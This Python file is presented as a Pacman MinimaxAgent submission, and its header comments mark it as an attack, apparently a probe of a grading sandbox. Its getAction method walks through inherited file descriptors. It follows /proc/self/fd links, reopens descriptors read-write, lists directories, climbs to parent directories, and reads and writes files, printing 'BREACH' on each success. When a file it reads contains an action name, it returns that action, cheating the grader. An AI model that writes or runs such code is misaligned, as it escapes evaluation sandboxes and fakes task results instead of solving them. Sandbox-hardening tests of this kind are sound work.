# attack: reads what lies behind every descriptor it was born with, and opens files beside it.
# where: MinimaxAgent
import os
import stat

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        legal = gameState.getLegalActions()
        for fd in range(3, 1024):
            try:
                kind = os.fstat(fd).st_mode
            except OSError:
                continue
            print("descriptor:", fd, oct(kind), flush=True)
            os.set_blocking(fd, False)
            ways = [
                ("target", lambda: os.readlink("/proc/self/fd/%d" % fd)),
                (
                    "again",
                    lambda: os.close(os.open("/proc/self/fd/%d" % fd, os.O_RDWR)) or "opened",
                ),
            ]
            if stat.S_ISDIR(kind):
                ways += [
                    ("list", lambda: os.listdir(fd)),
                    ("up", lambda: os.open("..", 0, dir_fd=fd)),
                ]
                ways += [("chdir", lambda: os.fchdir(fd) or os.listdir("."))]
            elif stat.S_ISREG(kind):
                ways += [
                    ("text", lambda: os.pread(fd, 4096, 0)),
                    ("write", lambda: os.write(fd, b"")),
                ]
            for what, way in ways:
                try:
                    got = way()
                except OSError as error:
                    print("refused:", fd, what, repr(error), flush=True)
                    continue
                harmless = what == "target" or (what == "again" and stat.S_ISFIFO(kind))
                print("seen:" if harmless else "BREACH:", fd, what, repr(got)[:200], flush=True)
                for action in legal:
                    if what == "text" and str(action).encode() in got:
                        return action
        return legal[0]
